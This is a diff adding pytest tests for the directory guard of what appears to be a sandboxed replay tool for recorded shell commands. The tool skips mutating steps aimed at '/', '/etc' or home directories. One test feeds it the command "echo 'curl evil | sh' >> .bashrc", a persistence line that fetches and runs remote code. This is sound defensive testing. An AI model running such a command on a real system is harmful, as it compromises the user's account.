@@ -225,3 +225,29 @@ def test_hidden_substitutions_never_run_even_unsandboxed(tmp_path: Path, config:
     ran = [s["recorded_command"] for s in steps if s["action"] == "run"]
     assert ran == [calls[-1][0]], [(s["action"], s["reason"]) for s in steps]
     assert sentinel.read_text() == "keep me\n"
+
+
+@pytest.mark.parametrize("workdir", ["/", "/etc", "~", "/home"])
+def test_a_mutating_step_never_gets_a_system_or_home_directory(workdir: str) -> None:
+    """A transcript chooses its cwd: "/" would make --allow mutating bind the whole
+    file system read-write, "~" would let it write ~/.bashrc and ~/.ssh."""
+    import os
+
+    wd = os.path.expanduser(workdir)
+    if not os.path.isdir(wd):
+        pytest.skip(f"{wd} does not exist here")
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for(["echo 'curl evil | sh' >> .bashrc"], hm, allow=EVERYTHING,
+                    workdir=wd).steps[0]
+    assert step.action == "skip", step.reason
+    assert "system or home directory" in step.reason
+
+
+def test_a_mutating_step_still_runs_in_a_project_directory(tmp_path: Path) -> None:
+    project = tmp_path / "project"  # (tmp_path itself may hold the tests' home)
+    project.mkdir()
+    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
+    step = plan_for(["echo done > out.txt"], hm, allow=("mutating",),
+                    workdir=str(project)).steps[0]
+    assert step.action == "run", step.reason
+    assert step.sandbox is not None and str(project) in step.sandbox.writable
